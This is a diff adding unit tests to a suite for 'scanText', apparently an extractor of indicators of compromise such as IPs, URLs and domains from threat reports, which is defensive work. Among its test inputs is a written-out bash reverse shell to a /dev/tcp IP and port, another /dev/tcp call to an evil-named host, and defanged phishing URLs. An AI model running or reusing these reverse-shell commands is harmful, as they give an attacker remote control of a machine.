@@ -233,6 +233,19 @@ suite('scanText: context beats regex', () => {
 		// The ideographic comma stays: real phishing paths hold it.
 		assert.deepEqual(found('hxxps://mm.evil[.]ru/a/連絡先、夕食会.html'), ['url https://mm.evil.ru/a/連絡先、夕食会.html']);
 	});
+	test("a reverse shell's /dev/tcp/host/port gives host:port; tls:// and mqtt:// links are URLs", () => {
+		assert.deepEqual(found('bash -i >& /dev/tcp/45.32.11.8/4444 0>&1; exec 5<>/dev/tcp/evil-shell.top/443; tls://evil-s7[.]com:443 mqtt://m[.]evil.net:1883'), [
+			'ip_port 45.32.11.8:4444',
+			'url evil-shell.top:443',
+			'url tls://evil-s7.com:443',
+			'url mqtt://m.evil.net:1883',
+		]);
+		assert.deepEqual(found('/usr/lib/x86.so and /home/user/evil.com'), []);
+	});
+	test('a script object and member (WScript.Shell, ADODB.Stream, requests.post) is no domain, written live', () => {
+		assert.deepEqual(found('CreateObject("WScript.Shell"), ADODB.Stream, WScript.Network; requests.post(u); config.host = 1'), []);
+		assert.deepEqual(found('config.evil.com and wscript[.]shell'), ['domain config.evil.com', 'domain wscript.shell']);
+	});
 	test('file:// URLs of remote shares are URLs; a WebDAV `@SSL` or `@port` ends the host; local files are not', () => {
 		assert.deepEqual(found('file://46.8.19[.]163/mise/server.exe and file://5.181.159[.]76@80/Downloads/alpha.url'), [
 			'url file://46.8.19.163/mise/server.exe',
